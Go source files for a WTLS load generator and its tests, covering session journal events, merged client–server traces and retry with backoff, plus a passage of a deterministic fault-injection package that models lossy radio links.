func TestSessionWideEvents(t *testing.T) {
	journal.Default.Reset()
	journal.Default.SetEnabled(true)
	t.Cleanup(func() {
		journal.Default.SetEnabled(false)
		journal.Default.Reset()
	})

	srv, client := startGateway(t)
	const conns = 8
	r, err := New(Config{
		Addr: srv.Addr().String(), WTLS: client,
		Conns: conns, Concurrency: 2, Records: 3, Payload: 64,
		Seed:      7,
		Chaos:     &chaos.ConnConfig{Corrupt: 0.05},
		Attempts:  10,
		IOTimeout: 2 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	rep := r.Run()

	var wides []journal.Event
	for _, e := range journal.Default.Events() {
		if e.Layer == "load" && e.Name == "session" {
			wides = append(wides, e)
		}
	}
	if len(wides) != conns {
		t.Fatalf("got %d wide events, want one per session (%d)", len(wides), conns)
	}
	var okCount, chunks int64
	for _, e := range wides {
		if e.Get("ok") == "true" {
			okCount++
			if e.Get("suite") == "" {
				t.Errorf("session %d: ok without suite", e.TSim)
			}
			if v, _ := e.GetFloat("records"); v < 3 {
				t.Errorf("session %d: records = %v, want >= 3", e.TSim, v)
			}
			if v, _ := e.GetFloat("handshake_us"); v <= 0 {
				t.Errorf("session %d: handshake_us = %v", e.TSim, v)
			}
		}
		if v, ok := e.GetFloat("attempts"); !ok || v < 1 {
			t.Errorf("session %d: attempts = %v,%v", e.TSim, v, ok)
		}
		c, _ := e.GetFloat("chaos_chunks")
		chunks += int64(c)
	}
	if okCount != rep.OK {
		t.Fatalf("wide events report %d ok, run reported %d", okCount, rep.OK)
	}
	if chunks == 0 {
		t.Fatal("chaos conn saw zero chunks across all sessions")
	}
}

func TestConfigValidation(t *testing.T) {
	if _, err := New(Config{}); err == nil {
		t.Fatal("empty config accepted")
	}
	if _, err := New(Config{Addr: "x"}); err == nil {
		t.Fatal("config without RootCA accepted")
	}
}

func TestPercentile(t *testing.T) {
	if Percentile(nil, 0.5) != 0 {
		t.Fatal("empty set percentile not 0")
	}
	s := []time.Duration{5, 1, 4, 2, 3} // sorted: 1..5
	if p := Percentile(s, 0.5); p != 3 {
		t.Fatalf("p50 = %v, want 3", p)
	}
	if p := Percentile(s, 0.99); p != 5 {
		t.Fatalf("p99 = %v, want 5", p)
	}
	if p := Percentile(s, 0); p != 1 {
		t.Fatalf("p0 = %v, want 1", p)
	}
}

func TestProgressJSONShape(t *testing.T) {
	r, err := New(Config{Addr: "127.0.0.1:1", WTLS: &wtls.Config{RootCA: &testRootCA}, Conns: 5})
	if err != nil {
		t.Fatal(err)
	}
	var v struct {
		Total   int64   `json:"total"`
		Done    int64   `json:"done"`
		Workers int64   `json:"workers"`
		Rate    float64 `json:"tasks_per_sec"`
		ETA     int64   `json:"eta_ms"`
		Active  bool    `json:"active"`
	}
	if err := json.Unmarshal(r.ProgressJSON(), &v); err != nil {
		t.Fatalf("progress payload not valid JSON: %v", err)
	}
	if v.Total != 5 || v.Done != 0 || v.Active {
		t.Fatalf("progress payload: %+v", v)
	}
}
