package loadgen

import (
	"context"
	"testing"

	"repro/internal/obs"
)

// hasGatewaySpan reports whether n's subtree contains a gateway-layer
// session span.
func hasGatewaySpan(n *obs.SpanNode) bool {
	if n.Rec.Layer == "gateway" && n.Rec.Name == "session" {
		return true
	}
	for _, c := range n.Children {
		if hasGatewaySpan(c) {
			return true
		}
	}
	return false
}

// TestEndToEndMergedTraces is the tentpole acceptance in miniature: a
// traced load run against a live gateway produces, for every session,
// one trace holding both the msload and msgateway halves — the server's
// session span rooted under the client's attempt span — with the
// critical-path analyzer attributing the bulk of each session's wall
// time to named spans.
func TestEndToEndMergedTraces(t *testing.T) {
	obs.DefaultDTracer.SetEnabled(true)
	obs.DefaultDTracer.SetProc("e2e-test")
	obs.DefaultDTracer.SetSampleN(1)
	t.Cleanup(func() { obs.DefaultDTracer.SetEnabled(false) })

	srv, client := startGateway(t)
	r, err := New(Config{
		Addr: srv.Addr().String(), WTLS: client,
		Conns: 6, Concurrency: 2, Records: 2, Payload: 64,
		Seed: 7,
	})
	if err != nil {
		t.Fatal(err)
	}
	rep := r.Run()
	if rep.OK != 6 || rep.Failed != 0 {
		t.Fatalf("run: %s (lastErr=%v)", rep, r.LastErr())
	}
	// Drain the gateway so every server-side session span has flushed.
	if err := srv.Shutdown(context.Background()); err != nil {
		t.Fatal(err)
	}

	trees := obs.BuildTraces(obs.DefaultDTracer.Spans())
	if len(trees) != 6 {
		t.Fatalf("want 6 traces, got %d", len(trees))
	}
	for _, tr := range trees {
		if len(tr.Roots) != 1 {
			t.Fatalf("trace %s has %d roots (server half orphaned?)", obs.TraceHex(tr.Trace), len(tr.Roots))
		}
		if tr.Roots[0].Rec.Parent != 0 || tr.Roots[0].Rec.Name != "session" {
			t.Fatalf("trace %s primary root is %+v", obs.TraceHex(tr.Trace), tr.Roots[0].Rec)
		}
		// The gateway half must hang inside the client's tree. (Both
		// halves share one proc name here — a single test process — so
		// the Merged flag can't fire; the structural merge is the point.)
		foundServer := false
		for _, n := range tr.Roots[0].Children {
			foundServer = foundServer || hasGatewaySpan(n)
		}
		if !foundServer {
			t.Fatalf("trace %s has no gateway session under the client root", obs.TraceHex(tr.Trace))
		}
		// The acceptance bar: ≥95% of the session's duration lands in
		// named child spans.
		if tr.Coverage < 0.95 {
			t.Errorf("trace %s coverage %.3f < 0.95", obs.TraceHex(tr.Trace), tr.Coverage)
		}
	}

	// Both halves' handshake phases must appear in the attribution.
	keys := map[string]bool{}
	for _, e := range obs.CritTop(trees, 0) {
		keys[e.Key] = true
	}
	for _, want := range []string{
		"e2e-test/load.session",
		"e2e-test/load.attempt",
		"e2e-test/wtls.handshake_client",
		"e2e-test/wtls.handshake_server",
		"e2e-test/gateway.session",
	} {
		if !keys[want] {
			t.Errorf("critical path missing %q (have %v)", want, keys)
		}
	}
}

// TestTraceStructureDeterministicAcrossConcurrency pins the CI
// byte-diff property at unit scale: the client's exported canonical
// trace is identical whether the run used 1 worker or 8.
func TestTraceStructureDeterministicAcrossConcurrency(t *testing.T) {
	run := func(concurrency int) []obs.SpanRec {
		obs.DefaultDTracer.Reset()
		obs.DefaultDTracer.SetEnabled(true)
		obs.DefaultDTracer.SetProc("msload")
		obs.DefaultDTracer.SetCanonical(true)
		t.Cleanup(func() {
			obs.DefaultDTracer.SetEnabled(false)
			obs.DefaultDTracer.SetCanonical(false)
			obs.DefaultDTracer.Reset()
		})

		srv, client := startGateway(t)
		r, err := New(Config{
			Addr: srv.Addr().String(), WTLS: client,
			Conns: 8, Concurrency: concurrency, Records: 2, Payload: 64,
			Seed: 9,
		})
		if err != nil {
			t.Fatal(err)
		}
		if rep := r.Run(); rep.Failed != 0 {
			t.Fatalf("run failed: %s (lastErr=%v)", rep, r.LastErr())
		}
		// Drain so the server half finishes flushing its spans before
		// the snapshot — otherwise the last session races.
		if err := srv.Shutdown(context.Background()); err != nil {
			t.Fatal(err)
		}
		obs.DefaultDTracer.SetEnabled(false)
		// Keep only the client half. In production msload and msgateway
		// are separate processes and CI diffs only msload's file; here
		// one tracer records both, so drop every span whose ancestor
		// chain crosses into the gateway subtree (the server's timing
		// depends on read coalescing and is legitimately nondeterministic).
		all := obs.DefaultDTracer.Spans()
		byID := make(map[uint64]obs.SpanRec, len(all))
		for _, rec := range all {
			byID[rec.Span] = rec
		}
		serverSide := func(rec obs.SpanRec) bool {
			for {
				if rec.Layer == "gateway" {
					return true
				}
				p, ok := byID[rec.Parent]
				if !ok {
					return false
				}
				rec = p
			}
		}
		var out []obs.SpanRec
		for _, rec := range all {
			if !serverSide(rec) {
				out = append(out, rec)
			}
		}
		return out
	}

	a := run(1)
	b := run(8)
	if len(a) == 0 {
		t.Fatal("no client spans recorded")
	}
	if len(a) != len(b) {
		t.Fatalf("span counts differ: %d at c=1, %d at c=8", len(a), len(b))
	}
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("span %d differs:\n c=1: %+v\n c=8: %+v", i, a[i], b[i])
		}
	}
}
