// Package loadgen is a closed-loop WTLS load generator: a fixed pool
// of workers drives a target number of sessions against a gateway,
// each session being connect → handshake → N echoed records → close.
//
// Two properties matter more than raw throughput. First, determinism:
// every random decision (client randoms, fault schedules, retry
// jitter) derives from the top-level seed plus stable indices, so a
// soak run is reproducible. Second, persistence under faults: connect
// and handshake failures are retried with capped exponential backoff,
// because the whole point of soaking through a chaos.Conn is that
// individual attempts die.
package loadgen

import (
	"errors"
	"fmt"
	"math"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"repro/internal/backoff"
	"repro/internal/chaos"
	"repro/internal/crypto/prng"
	"repro/internal/obs"
	"repro/internal/obs/journal"
	"repro/internal/wtls"
)

var (
	mClientsOK     = obs.C("load.clients_ok")
	mClientsFailed = obs.C("load.clients_failed")
	mRetries       = obs.C("load.retries")
	mRecords       = obs.C("load.records_echoed")
	hHandshake     = obs.H("load.handshake_ns", obs.DurationBuckets)
	hRecordRTT     = obs.H("load.record_rtt_ns", obs.DurationBuckets)
)

// Config parameterizes a load run.
type Config struct {
	// Addr is the gateway's TCP address.
	Addr string
	// WTLS is the client config template (RootCA, ServerName,
	// SessionCache); Rand is overwritten per attempt.
	WTLS *wtls.Config

	// Conns is the total number of sessions to complete. Default 100.
	Conns int
	// Concurrency is the closed-loop worker count. Default 16.
	Concurrency int
	// Records is the number of echo round-trips per session. Default 4.
	Records int
	// Payload is the bytes per record. Default 256.
	Payload int
	// Burst is how many records each round-trip writes back-to-back
	// before draining their echoes. Bursts > 1 keep several records in
	// flight, so the gateway's reader sees them buffered together and
	// the batched record path (OpenBatch/SealBatch) engages instead of
	// record-at-a-time lockstep. Default 1 (classic echo RTT).
	Burst int

	// Seed drives all client-side randomness.
	Seed int64
	// Chaos, when non-nil, wraps every dialed socket with fault
	// injection (the Seed field inside it is overridden per attempt).
	Chaos *chaos.ConnConfig

	// Attempts bounds tries per session (connect+handshake). Default 5.
	Attempts int
	// Backoff shapes the retry schedule; zero fields take the package
	// defaults, and Seed is overridden per session.
	Backoff backoff.Policy

	// DialTimeout bounds connect. Default 5s. IOTimeout bounds each
	// handshake and each record round-trip. Default 10s.
	DialTimeout time.Duration
	IOTimeout   time.Duration
}

func (c *Config) withDefaults() (Config, error) {
	d := *c
	if d.Addr == "" {
		return d, errors.New("loadgen: Addr required")
	}
	if d.WTLS == nil || d.WTLS.RootCA == nil {
		return d, errors.New("loadgen: WTLS config with RootCA required")
	}
	if d.Conns <= 0 {
		d.Conns = 100
	}
	if d.Concurrency <= 0 {
		d.Concurrency = 16
	}
	if d.Records <= 0 {
		d.Records = 4
	}
	if d.Payload <= 0 {
		d.Payload = 256
	}
	if d.Burst <= 0 {
		d.Burst = 1
	}
	if d.Attempts <= 0 {
		d.Attempts = 5
	}
	if d.DialTimeout <= 0 {
		d.DialTimeout = 5 * time.Second
	}
	if d.IOTimeout <= 0 {
		d.IOTimeout = 10 * time.Second
	}
	if d.Chaos != nil {
		cc := *d.Chaos
		d.Chaos = &cc
	}
	return d, nil
}

// Report summarizes a completed run.
type Report struct {
	Conns   int
	OK      int64
	Failed  int64
	Retries int64
	Records int64
	Elapsed time.Duration

	HandshakesPerSec float64
	RecordsPerSec    float64
	// Handshake latency percentiles over successful sessions.
	HSp50, HSp99 time.Duration
	// Record echo round-trip percentiles.
	RTTp50, RTTp99 time.Duration
}

func (r Report) String() string {
	return fmt.Sprintf(
		"conns=%d ok=%d failed=%d retries=%d records=%d elapsed=%v hs/s=%.1f rec/s=%.1f hs_p50=%v hs_p99=%v rtt_p50=%v rtt_p99=%v",
		r.Conns, r.OK, r.Failed, r.Retries, r.Records, r.Elapsed.Round(time.Millisecond),
		r.HandshakesPerSec, r.RecordsPerSec, r.HSp50, r.HSp99, r.RTTp50, r.RTTp99)
}

// Percentile returns the q-quantile (0..1) of samples by
// nearest-rank; 0 for an empty set.
func Percentile(samples []time.Duration, q float64) time.Duration {
	if len(samples) == 0 {
		return 0
	}
	s := append([]time.Duration(nil), samples...)
	sort.Slice(s, func(i, j int) bool { return s[i] < s[j] })
	i := int(math.Ceil(q*float64(len(s)))) - 1
	if i >= len(s) {
		i = len(s) - 1
	}
	if i < 0 {
		i = 0
	}
	return s[i]
}

// Runner executes a load run and exposes live progress.
type Runner struct {
	cfg     Config
	done    atomic.Int64
	failed  atomic.Int64
	retries atomic.Int64
	records atomic.Int64
	started time.Time
	active  atomic.Bool

	mu      sync.Mutex
	hsLat   []time.Duration
	rttLat  []time.Duration
	lastErr error
}

// New validates cfg and prepares a Runner.
func New(cfg Config) (*Runner, error) {
	d, err := cfg.withDefaults()
	if err != nil {
		return nil, err
	}
	return &Runner{cfg: d}, nil
}

// ProgressJSON renders the flat /progress payload mswatch displays.
func (r *Runner) ProgressJSON() []byte {
	done := r.done.Load() + r.failed.Load()
	elapsed := time.Since(r.started).Seconds()
	rate := 0.0
	if elapsed > 0 {
		rate = float64(done) / elapsed
	}
	etaMS := int64(-1)
	if rate > 0 {
		etaMS = int64(float64(r.cfg.Conns-int(done)) / rate * 1000)
	}
	return []byte(fmt.Sprintf(
		`{"sweep":0,"total":%d,"done":%d,"workers":%d,"tasks_per_sec":%.1f,"eta_ms":%d,"active":%v}`,
		r.cfg.Conns, done, r.cfg.Concurrency, rate, etaMS, r.active.Load()))
}

// Run drives the configured number of sessions to completion and
// returns the aggregate report. It blocks until all sessions have
// either succeeded or exhausted their retry budget.
func (r *Runner) Run() Report {
	r.started = time.Now()
	r.active.Store(true)
	defer r.active.Store(false)

	ids := make(chan int)
	var wg sync.WaitGroup
	for w := 0; w < r.cfg.Concurrency; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for id := range ids {
				r.runSession(id)
			}
		}()
	}
	for id := 0; id < r.cfg.Conns; id++ {
		ids <- id
	}
	close(ids)
	wg.Wait()

	elapsed := time.Since(r.started)
	rep := Report{
		Conns:   r.cfg.Conns,
		OK:      r.done.Load(),
		Failed:  r.failed.Load(),
		Retries: r.retries.Load(),
		Records: r.records.Load(),
		Elapsed: elapsed,
	}
	if s := elapsed.Seconds(); s > 0 {
		rep.HandshakesPerSec = float64(rep.OK) / s
		rep.RecordsPerSec = float64(rep.Records) / s
	}
	r.mu.Lock()
	rep.HSp50 = Percentile(r.hsLat, 0.50)
	rep.HSp99 = Percentile(r.hsLat, 0.99)
	rep.RTTp50 = Percentile(r.rttLat, 0.50)
	rep.RTTp99 = Percentile(r.rttLat, 0.99)
	r.mu.Unlock()
	return rep
}

// LastErr returns the most recent session failure, for diagnostics.
func (r *Runner) LastErr() error {
	r.mu.Lock()
	defer r.mu.Unlock()
	return r.lastErr
}

// sessionStats accumulates one session's dimensions across its
// attempts for the wide event: handshake/suite state from the last
// attempt that got that far, traffic and chaos faults summed over every
// attempt (retried attempts were real wire activity).
type sessionStats struct {
	attempts    int64
	handshakeUS int64
	resumed     bool
	suite       string
	records     int64
	bytes       int64
	chaos       chaos.ConnStats
}

// runSession completes one session, retrying connect/handshake with
// backoff. Echo failures after establishment also count as attempt
// failures: under chaos the stream can die at any record. Every session
// — success or failure — emits one wide "session" journal event
// carrying all its dimensions.
func (r *Runner) runSession(id int) {
	pol := r.cfg.Backoff
	pol.Seed = r.cfg.Seed ^ int64(id)*0x9e3779b9
	var root *obs.DSpan
	var sleep func(time.Duration)
	if obs.DTraceEnabled() {
		// The trace ID comes from the session's own seeded DRBG stream,
		// so it is a pure function of (seed, session): the sampling
		// decision and the exported ID structure repeat run over run,
		// at any concurrency.
		var tb [8]byte
		prng.NewDRBG([]byte(fmt.Sprintf("load/trace/%d/%d", r.cfg.Seed, id))).Read(tb[:])
		root = obs.DefaultDTracer.Root(obs.TraceIDFromBytes(tb[:]), "load", "session")
		if root != nil {
			// Backoff sleeps become spans: time the session spent parked
			// between attempts, attributed so the critical-path analyzer
			// can weigh waiting against crypto and wire time.
			sleep = func(d time.Duration) {
				t0 := obs.DTraceNowUS()
				time.Sleep(d)
				root.Event("load", "backoff_wait", t0, obs.DTraceNowUS()-t0, d.Microseconds())
			}
		}
	}
	var st sessionStats
	err := backoff.Retry(r.cfg.Attempts, pol, sleep, func(attempt int) error {
		if attempt > 0 {
			r.retries.Add(1)
			mRetries.Inc()
		}
		st.attempts++
		return r.attempt(id, attempt, &st, root)
	})
	if err != nil {
		r.failed.Add(1)
		mClientsFailed.Inc()
		r.mu.Lock()
		r.lastErr = fmt.Errorf("session %d: %w", id, err)
		r.mu.Unlock()
		journal.Emit(int64(id), journal.LevelWarn, "load", "session_failed",
			journal.S("err", err.Error()))
	} else {
		r.done.Add(1)
		mClientsOK.Inc()
	}
	fields := []journal.Field{
		journal.B("ok", err == nil),
		journal.I("attempts", st.attempts),
		journal.I("retries", st.attempts-1),
		journal.S("suite", st.suite),
		journal.B("resumed", st.resumed),
		journal.I("handshake_us", st.handshakeUS),
		journal.I("records", st.records),
		journal.I("bytes", st.bytes),
		journal.I("chaos_chunks", int64(st.chaos.Chunks)),
		journal.I("chaos_dropped", int64(st.chaos.Dropped)),
		journal.I("chaos_corrupted", int64(st.chaos.Corrupted)),
		journal.I("chaos_stalled", int64(st.chaos.Stalled)),
	}
	if err != nil {
		fields = append(fields, journal.S("err", err.Error()))
	}
	if root != nil {
		// Cross-link: the wide event carries the same 16-hex-digit ID the
		// span waterfall and the trace JSONL spell, so artifacts join by
		// exact string match.
		fields = append(fields, journal.S("trace_id", obs.TraceHex(root.TraceID())))
	}
	journal.Emit(int64(id), journal.LevelInfo, "load", "session", fields...)
	root.SetN(st.bytes)
	root.End()
}

func (r *Runner) attempt(id, attempt int, st *sessionStats, root *obs.DSpan) error {
	asp := root.Child("load", "attempt")
	defer asp.End()
	var d0 int64
	if asp != nil {
		d0 = obs.DTraceNowUS()
	}
	raw, err := net.DialTimeout("tcp", r.cfg.Addr, r.cfg.DialTimeout)
	if asp != nil {
		asp.Event("load", "dial", d0, obs.DTraceNowUS()-d0, 0)
	}
	if err != nil {
		return fmt.Errorf("dial: %w", err)
	}
	var conn net.Conn = raw
	if r.cfg.Chaos != nil {
		cc := *r.cfg.Chaos
		// Decorrelate fault schedules across sessions and attempts
		// while keeping the whole run a pure function of the seed.
		cc.Seed = r.cfg.Seed ^ int64(id)*0x100000001b3 ^ int64(attempt)<<32
		fc, err := chaos.WrapConn(raw, cc)
		if err != nil {
			raw.Close()
			return fmt.Errorf("chaos: %w", err)
		}
		conn = fc
		defer func() {
			// Sum the faults this attempt's socket saw into the session's
			// wide event, whatever way the attempt ends.
			cs := fc.Stats()
			st.chaos.Chunks += cs.Chunks
			st.chaos.Dropped += cs.Dropped
			st.chaos.Corrupted += cs.Corrupted
			st.chaos.Stalled += cs.Stalled
			st.chaos.BadState += cs.BadState
		}()
	}

	wcfg := *r.cfg.WTLS
	wcfg.Rand = prng.NewDRBG([]byte(fmt.Sprintf("load/%d/%d/%d", r.cfg.Seed, id, attempt)))
	tc := wtls.Client(conn, &wcfg)
	defer tc.Close()
	// Attach before the handshake: the connection's phase spans (hello,
	// key_exchange, finished) and record batches nest under this attempt.
	tc.SetTraceParent(asp)

	start := time.Now()
	_ = tc.SetDeadline(time.Now().Add(r.cfg.IOTimeout))
	if err := tc.Handshake(); err != nil {
		return fmt.Errorf("handshake: %w", err)
	}
	hs := time.Since(start)
	hHandshake.ObserveEx(hs.Nanoseconds(), asp.TraceID())
	st.handshakeUS = hs.Microseconds()
	state := tc.State()
	st.resumed = state.Resumed
	if state.Suite != nil {
		st.suite = state.Suite.Name
	}
	r.mu.Lock()
	r.hsLat = append(r.hsLat, hs)
	r.mu.Unlock()

	if asp != nil {
		// First application record: hand the (trace, span) pair to the
		// server so its half of the session hangs under this attempt and
		// msreport can merge the two processes into one trace.
		if _, err := tc.Write(obs.EncodeTraceHeader(asp.TraceID(), asp.ID())); err != nil {
			return fmt.Errorf("trace header: %w", err)
		}
	}

	payload := make([]byte, r.cfg.Payload)
	wcfg.Rand.Read(payload)
	buf := make([]byte, r.cfg.Payload)
	for rec := 0; rec < r.cfg.Records; {
		burst := r.cfg.Burst
		if left := r.cfg.Records - rec; burst > left {
			burst = left
		}
		esp := asp.Child("load", "echo")
		if esp != nil {
			// Record batches written during this round nest under the
			// round's span, not as siblings of it.
			tc.SetTraceParent(esp)
		}
		t0 := time.Now()
		_ = tc.SetDeadline(time.Now().Add(r.cfg.IOTimeout))
		for i := 0; i < burst; i++ {
			if _, err := tc.Write(payload); err != nil {
				esp.End()
				return fmt.Errorf("record %d write: %w", rec+i, err)
			}
		}
		for i := 0; i < burst; i++ {
			got := 0
			for got < len(buf) {
				n, err := tc.Read(buf[got:])
				if err != nil {
					esp.End()
					return fmt.Errorf("record %d read: %w", rec+i, err)
				}
				got += n
			}
		}
		rtt := time.Since(t0)
		esp.SetN(int64(burst) * int64(r.cfg.Payload))
		esp.End()
		hRecordRTT.ObserveEx(rtt.Nanoseconds(), esp.TraceID())
		st.records += int64(burst)
		st.bytes += int64(burst) * int64(r.cfg.Payload)
		r.records.Add(int64(burst))
		mRecords.Add(int64(burst))
		r.mu.Lock()
		r.rttLat = append(r.rttLat, rtt)
		r.mu.Unlock()
		rec += burst
	}
	return nil
}
