// Package chaos models an unreliable radio link: a deterministic,
// seed-driven fault injector that sits between a protocol stack and a
// perfect transport (e.g. stack.Pipe) and subjects every frame to the
// impairments a real 10 Kbps sensor radio or 802.11 channel produces —
// bit-flip corruption at a configurable BER, frame drop, duplication,
// reordering, and burst losses via a Gilbert–Elliott two-state channel.
//
// The paper's whole premise is a *wireless* appliance, yet its protocol
// figures assume a lossless link. This package supplies the missing
// channel so the reliability layer (internal/arq) and the lossy-channel
// battery figure (core.ComputeLossFigure, cmd/lossfig) can quantify what
// noise costs.
//
// A FaultyTransport is frame-oriented, playing the role of the radio PHY:
// each Write carries one link frame (faults are applied per frame, then
// the frame is emitted onto the byte transport under a 2-byte PHY length
// header the channel itself never corrupts — a real receiver regains
// frame sync from the PHY preamble even when payload bits are wrong), and
// each Read returns exactly one inbound frame. Wrap both ends of a duplex
// pipe, one FaultyTransport per direction of egress; a zero Config is a
// perfect (but still framed) channel.
package chaos

import (
	"errors"
	"fmt"
	"io"
	"math"
	"math/rand"
	"sync"

	"repro/internal/obs"
	"repro/internal/obs/journal"
)

// Static fault-injection metric handles, process totals across all
// transports; disarmed by default.
var (
	mFrames     = obs.C("chaos.frames")
	mDropped    = obs.C("chaos.dropped")
	mCorrupted  = obs.C("chaos.corrupted")
	mBitsFlip   = obs.C("chaos.bits_flipped")
	mDuplicated = obs.C("chaos.duplicated")
	mReordered  = obs.C("chaos.reordered")
	mBadState   = obs.C("chaos.bad_state_frames")
)

// phyHeaderLen is the length prefix the PHY framing adds on the wire.
const phyHeaderLen = 2

// MaxFrame bounds one PHY frame (the 2-byte length header's reach).
const MaxFrame = 0xffff

// Errors returned by FaultyTransport.
var (
	ErrFrameTooLarge = errors.New("chaos: frame exceeds PHY limit")
	ErrShortBuffer   = errors.New("chaos: read buffer smaller than inbound frame")
)

// Burst is a Gilbert–Elliott two-state burst-loss model: the channel
// wanders between a good and a bad state with the given per-frame
// transition probabilities, and drops frames with a state-dependent
// probability. It reproduces the clustered losses of fading channels that
// independent per-frame drop cannot.
type Burst struct {
	PGoodToBad float64 // P(good→bad) evaluated once per frame
	PBadToGood float64 // P(bad→good) evaluated once per frame
	LossGood   float64 // frame loss probability in the good state
	LossBad    float64 // frame loss probability in the bad state
}

// Step advances the Gilbert–Elliott state machine by one frame: bad is
// the current channel state and u a uniform [0,1) draw consumed by the
// transition. It is a pure function so that both FaultyTransport and
// analytic channel models (internal/fleet simulates one independent
// burst state per device) share the exact same semantics.
func (b *Burst) Step(bad bool, u float64) bool {
	if bad {
		return u >= b.PBadToGood
	}
	return u < b.PGoodToBad
}

// Config parameterizes the injected faults. All probabilities are per
// frame except BER, which is per bit. The zero value is a lossless
// channel.
type Config struct {
	// Seed drives the fault PRNG; a fixed seed gives a reproducible
	// fault schedule for a given frame sequence.
	Seed int64
	// BER is the bit error rate applied to forwarded frames.
	BER float64
	// Drop is an independent per-frame drop probability, applied on top
	// of any burst model.
	Drop float64
	// Dup is the probability a frame is delivered twice.
	Dup float64
	// Reorder is the probability a frame is held back and swapped with
	// the next frame sent.
	Reorder float64
	// Burst optionally enables Gilbert–Elliott burst losses.
	Burst *Burst
}

// LossProb returns the per-frame loss probability of the channel given
// the current burst state: the independent Drop probability composed
// with the state-dependent Gilbert–Elliott loss.
func (c *Config) LossProb(bad bool) float64 {
	p := c.Drop
	if b := c.Burst; b != nil {
		stateLoss := b.LossGood
		if bad {
			stateLoss = b.LossBad
		}
		p = 1 - (1-p)*(1-stateLoss)
	}
	return p
}

// FrameCorruptProb returns the probability that a frame of frameBytes
// carries at least one flipped bit at the configured BER — the analytic
// counterpart of the per-byte corruption loop in Write, used by models
// that price corruption (a corrupt frame dies at the MAC) without
// materializing the bytes.
func (c *Config) FrameCorruptProb(frameBytes int) float64 {
	if c.BER <= 0 || frameBytes <= 0 {
		return 0
	}
	return 1 - math.Pow(1-c.BER, float64(8*frameBytes))
}

func (c *Config) validate() error {
	for _, p := range []struct {
		name string
		v    float64
	}{
		{"BER", c.BER}, {"Drop", c.Drop}, {"Dup", c.Dup}, {"Reorder", c.Reorder},
	} {
		if p.v < 0 || p.v > 1 {
			return fmt.Errorf("chaos: %s %v outside [0,1]", p.name, p.v)
		}
	}
	if b := c.Burst; b != nil {
		for _, p := range []struct {
			name string
			v    float64
		}{
			{"PGoodToBad", b.PGoodToBad}, {"PBadToGood", b.PBadToGood},
			{"LossGood", b.LossGood}, {"LossBad", b.LossBad},
		} {
			if p.v < 0 || p.v > 1 {
				return fmt.Errorf("chaos: burst %s %v outside [0,1]", p.name, p.v)
			}
		}
	}
	return nil
}

// Stats counts injected faults.
type Stats struct {
	Frames      int // frames offered for transmission
	Delivered   int // frames actually put on the wire (incl. duplicates)
	Dropped     int // frames lost (independent or burst)
	Corrupted   int // frames with at least one flipped bit
	BitsFlipped int
	Duplicated  int
	Reordered   int
	BadState    int // frames offered while the channel was in the bad state
}

// FaultyTransport is a frame-oriented lossy channel over a byte transport.
// It is safe for one concurrent reader and one concurrent writer.
type FaultyTransport struct {
	lower io.ReadWriteCloser
	cfg   Config

	wmu   sync.Mutex // guards rng, held, stats, bad, writes to lower
	rng   *rand.Rand
	pByte float64 // per-byte corruption probability derived from BER
	bad   bool    // Gilbert–Elliott state
	held  []byte  // frame held back for reordering

	stats Stats

	rmu    sync.Mutex // guards reads from lower
	rcvHdr [phyHeaderLen]byte
}

// New wraps lower as the egress of a lossy link. Faults apply to frames
// written through the returned transport; reads parse the peer's PHY
// framing untouched.
func New(lower io.ReadWriteCloser, cfg Config) (*FaultyTransport, error) {
	if lower == nil {
		return nil, errors.New("chaos: nil transport")
	}
	if err := cfg.validate(); err != nil {
		return nil, err
	}
	return &FaultyTransport{
		lower: lower,
		cfg:   cfg,
		rng:   rand.New(rand.NewSource(cfg.Seed)),
		pByte: 1 - math.Pow(1-cfg.BER, 8),
	}, nil
}

// Write subjects one frame to the configured faults and forwards the
// survivors. It reports the full frame length even when the frame is
// dropped — loss is silent, exactly as on air.
func (t *FaultyTransport) Write(p []byte) (int, error) {
	if len(p) > MaxFrame {
		return 0, ErrFrameTooLarge
	}
	t.wmu.Lock()
	defer t.wmu.Unlock()
	t.stats.Frames++
	mFrames.Inc()

	// Burst-state transition happens once per offered frame; the shared
	// Step/LossProb helpers keep this transport and the analytic
	// per-device channel model in internal/fleet on identical semantics
	// (and an identical RNG draw schedule).
	if b := t.cfg.Burst; b != nil {
		t.bad = b.Step(t.bad, t.rng.Float64())
		if t.bad {
			t.stats.BadState++
			mBadState.Inc()
		}
	}
	lossP := t.cfg.LossProb(t.bad)
	if t.rng.Float64() < lossP {
		t.stats.Dropped++
		mDropped.Inc()
		obs.Emit("chaos", "drop", int64(len(p)))
		journal.Emit(int64(t.stats.Frames), journal.LevelDebug, "chaos", "drop",
			journal.I("frame_bytes", int64(len(p))))
		return len(p), nil
	}

	frame := append([]byte(nil), p...)
	flipped := 0
	for i := range frame {
		if t.rng.Float64() < t.pByte {
			frame[i] ^= 1 << t.rng.Intn(8)
			flipped++
		}
	}
	if flipped > 0 {
		t.stats.Corrupted++
		t.stats.BitsFlipped += flipped
		mCorrupted.Inc()
		mBitsFlip.Add(int64(flipped))
		obs.Emit("chaos", "corrupt", int64(flipped))
		journal.Emit(int64(t.stats.Frames), journal.LevelDebug, "chaos", "corrupt",
			journal.I("bits_flipped", int64(flipped)), journal.I("frame_bytes", int64(len(p))))
	}

	if t.held == nil && t.rng.Float64() < t.cfg.Reorder {
		// Hold this frame; it goes out after the next one.
		t.stats.Reordered++
		mReordered.Inc()
		t.held = frame
		return len(p), nil
	}
	if err := t.emit(frame); err != nil {
		return 0, err
	}
	if t.rng.Float64() < t.cfg.Dup {
		t.stats.Duplicated++
		mDuplicated.Inc()
		if err := t.emit(frame); err != nil {
			return 0, err
		}
	}
	if t.held != nil {
		held := t.held
		t.held = nil
		if err := t.emit(held); err != nil {
			return 0, err
		}
	}
	return len(p), nil
}

// emit puts one frame on the wire under the PHY length header.
func (t *FaultyTransport) emit(frame []byte) error {
	buf := make([]byte, phyHeaderLen+len(frame))
	buf[0] = byte(len(frame) >> 8)
	buf[1] = byte(len(frame))
	copy(buf[phyHeaderLen:], frame)
	if _, err := t.lower.Write(buf); err != nil {
		return err
	}
	t.stats.Delivered++
	return nil
}

// Read returns exactly one inbound frame. p must be large enough for the
// whole frame; a short buffer is an error (a datagram cannot be split).
func (t *FaultyTransport) Read(p []byte) (int, error) {
	t.rmu.Lock()
	defer t.rmu.Unlock()
	if _, err := io.ReadFull(t.lower, t.rcvHdr[:]); err != nil {
		return 0, err
	}
